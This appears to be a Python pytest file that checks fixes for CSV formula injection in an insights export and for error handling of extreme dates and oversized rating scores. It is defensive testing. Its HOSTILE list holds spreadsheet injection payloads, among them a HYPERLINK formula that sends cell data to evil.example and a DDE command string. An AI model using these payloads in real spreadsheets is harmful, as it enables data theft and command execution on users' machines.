"""Findings of ../shared/findings/security.md in the insight dashboard and the status page:
D13 (CSV formula injection) and the D11 500s from out-of-range dates and oversized scores."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest

from plugins.insights.views import inert_cell
from tests.support.plugin_fixtures import post_event, token_instance

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tTAB=1", "\rCR=1"]


@pytest.fixture
def app_config(app_config: dict[str, Any]) -> dict[str, Any]:
    app_config["PLUGINS"] = [("insights", "plugins.insights"), ("webhook", "connectors.webhook")]
    return app_config


def test_d13_names_from_sources_cannot_become_formulas_in_the_csv(app: Any, api: Any) -> None:
    secret = token_instance(api)
    for number, name in enumerate(HOSTILE):
        response = post_event(app, secret, {"title": f"t{number}", "category": name})
        assert response.status_code == 201, response.json
    response = api.get("/insights.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    categories = [key for figure, key, _ in rows[1:] if figure == "volume_by_category"]
    assert len(categories) == len(HOSTILE)
    # Category slugs are made from the names (the "-" of "-2+3" became a space); the others
    # still start like formulas and are shown with the apostrophe.
    assert sum(key.startswith("'") for key in categories) == 5, categories


def test_d13_numbers_and_plain_text_stay_as_they_are() -> None:
    assert [inert_cell(value) for value in (-3, 2.5, None, "", "ok", "a=b")] == [-3, 2.5, None, "", "ok", "a=b"]
    assert inert_cell("=1+1") == "'=1+1"


@pytest.mark.parametrize("query", ["from=9999-12-30&to=9999-12-31", "to=9999-12-31", "to=0001-01-05",
                                   "from=0001-01-01&to=0001-01-02"])
def test_d11_dates_at_the_ends_of_the_calendar_are_a_400(client_for: Any, query: str) -> None:
    agent = client_for("agent")
    for path in ("/api/v1/insights", "/insights.csv"):
        response = agent.get(f"{path}?{query}")
        assert response.status_code == 400, (path, response.status_code, response.get_data(as_text=True)[:300])
        assert "Dates lie between" in response.get_data(as_text=True)


def test_d11_the_dashboard_page_answers_a_page_for_those_dates(app: Any) -> None:
    from tests.hub.ui.conftest import Browser, add_user

    add_user(app, "agent1", "agent")
    response = Browser(app, "agent1").get("/insights?from=9999-12-30&to=9999-12-31")
    assert response.status_code == 400 and "Dates lie between" in response.get_data(as_text=True)


def test_d11_an_oversized_rating_is_a_readable_refusal(app: Any, api: Any, runtime: Any) -> None:
    from hub.tracker.status_links import status_token
    from hub.tracker.tickets import get_ticket

    ref = api.post("/api/v1/incidents", json={"title": "x", "requester": {"email": "omar@example.org"}}).json["ref"]
    api.post(f"/api/v1/incidents/{ref}/transitions", json={"to": "resolved", "resolution": "Done"})
    with runtime.db.transaction() as session:
        page = f"/s/{status_token(session, get_ticket(session, ref))}"
    client = app.test_client()
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get(page).get_data(as_text=True))
    assert token
    response = client.post(f"{page}/rate", data={"csrf_token": token.group(1), "score": "9" * 5000},
                           follow_redirects=True)
    assert response.status_code < 500 and "Choose 1 to 5" in response.get_data(as_text=True)
    assert api.get(f"/api/v1/incidents/{ref}").json["csat_score"] is None
